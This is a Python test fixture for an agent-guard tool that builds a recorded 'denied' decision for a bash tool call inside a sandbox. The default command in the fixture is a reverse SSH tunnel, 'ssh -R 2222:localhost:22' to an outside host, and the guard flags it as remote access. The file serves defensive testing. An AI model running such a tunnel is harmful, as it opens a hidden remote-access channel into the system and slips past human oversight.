"""Decisions to record, as the guard would take them."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from guard.model import Decision, Effect, Finding, Sandbox, Session, ToolCall

_TIME = 1_795_428_000_123_456_789

Make = Callable[..., Decision]


def _make(command: str = "ssh -R 2222:localhost:22 u@203.0.113.5", **fields: Any) -> Decision:
    sandbox = Sandbox(id="sb-1", ip="10.0.0.3")
    session = Session(id="s-1", run="r-1", trajectory="t-1", episode="e-1", sandbox=sandbox)
    call = ToolCall("bash", {"command": command}, id="call-1", session=session)
    request = {
        "version": 1,
        "subject": {"type": "agent", "id": "agent", "properties": {}},
        "action": {"name": "tools/call"},
        "resource": {"type": "tool", "id": "bash", "properties": {"arguments": call.arguments}},
        "context": {
            "call_id": "call-1",
            "profile": "baseline",
            "operations": [
                {
                    "kind": "process.exec",
                    "program": "ssh",
                    "path": "ssh",
                    "argv": ["ssh", "-R", "2222:localhost:22", "u@203.0.113.5"],
                    "certainty": "must",
                }
            ],
            "opaque": [{"kind": "unknown", "severity": "low", "detail": "says secret-detail"}],
            "complete": False,
        },
    }
    finding = Finding("remote_access.ssh_tunnel", Effect.DENY, "opens a tunnel", "do not")
    settings: dict[str, Any] = {
        "id": "d" * 32,
        "call": call,
        "effect": Effect.DENY,
        "findings": (finding, Finding("profile.allowance", Effect.ALLOW, "the profile allows it")),
        "request": request,
        "arguments_hash": "a" * 64,
        "profile": "baseline",
        "digest": "b" * 64,
        "engine": "regorus",
        "time_ns": _TIME,
        "parse_ns": 90_000,
        "evaluate_ns": 60_000,
    }
    return Decision(**{**settings, **fields})


@pytest.fixture
def make() -> Make:
    """Return a function that makes a denied decision, or one with other fields."""
    return _make
